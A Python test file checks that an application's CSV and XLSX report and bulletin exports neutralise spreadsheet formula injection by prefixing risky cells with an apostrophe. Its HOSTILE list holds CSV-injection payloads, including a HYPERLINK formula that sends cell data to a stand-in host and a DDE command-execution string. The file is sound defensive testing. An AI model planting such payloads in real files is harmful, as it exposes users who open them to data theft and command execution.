"""Exports neutralise formulas (issue 18, "Approval and accounts"; OWASP "CSV
injection"): a text cell that begins with = + - @, a tab or a carriage return is written
with a leading apostrophe in CSV, and as text, never a formula, in XLSX."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.gateway.conftest import Gateway
from tests.security.accounts_gateway import Clients, csrf, ready

__all__ = ["ready"]

HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
TITLES = [HOSTILE[0], HOSTILE[3]]


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


async def _areas_with_cases(clients: Clients) -> None:
    admin, h = clients["admin"][0], csrf(clients, "admin")
    for n, name in enumerate(HOSTILE):
        r = await admin.post(
            "/api/v1/areas", json={"code": f"X{n}", "name": name, "level": "village", "parent": "XA1"}, headers=h
        )
        assert r.status_code == 201, r.text
        r = await admin.post("/api/v1/cases", json={"text": "Đường hỏng", "area": f"X{n}"}, headers=h)
        assert r.status_code == 201, r.text


@pytest.mark.asyncio
async def test_feedback_report_csv_neutralises_formulas(ready: tuple[Gateway, Clients]) -> None:
    _gw, clients = ready
    await _areas_with_cases(clients)
    r = await clients["admin"][0].get("/api/v1/reports/feedback", params={"format": "csv"})
    names = {row[1] for row in _csv(r.content) if len(row) > 1}
    for name in HOSTILE:
        assert "'" + name in names, name
        assert name not in names, name


@pytest.mark.asyncio
async def test_feedback_report_xlsx_holds_text_not_formulas(ready: tuple[Gateway, Clients]) -> None:
    _gw, clients = ready
    await _areas_with_cases(clients)
    r = await clients["admin"][0].get("/api/v1/reports/feedback", params={"format": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for name in HOSTILE:
        assert "'" + name in values, name


def test_a_leading_tab_or_carriage_return_is_neutralised_too() -> None:
    """The API strips them from names and titles today; the cell writer does not rely on it."""
    from gateway.feedback.report_files import neutral

    assert [neutral(v) for v in ("\t=1+2", "\r=1+2", "Thôn -1", -1, None)] == ["'\t=1+2", "'\r=1+2", "Thôn -1", -1, ""]


@pytest.mark.asyncio
async def test_bulletin_export_csv_neutralises_formulas(ready: tuple[Gateway, Clients]) -> None:
    gw, clients = ready
    editor, approver = clients["bientap"][0], clients["duyet"][0]
    for title in TITLES:
        r = await editor.post(
            "/api/v1/bulletins",
            headers=csrf(clients, "bientap"),
            json={"title": title, "body": "Họp dân.", "targets": [{"channel": "file", "area": "T1"}]},
        )
        bid = r.json()["id"]
        await editor.post(f"/api/v1/bulletins/{bid}/submit", headers=csrf(clients, "bientap"))
        await approver.post(f"/api/v1/bulletins/{bid}/approve", headers=csrf(clients, "duyet"))
        await approver.post(f"/api/v1/bulletins/{bid}/schedule", json={}, headers=csrf(clients, "duyet"))
    await gw.run_worker()
    r = await clients["admin"][0].get("/api/v1/export/bulletins", params={"format": "csv"})
    assert [row[1] for row in _csv(r.content)[1:]] == ["'" + title for title in TITLES]
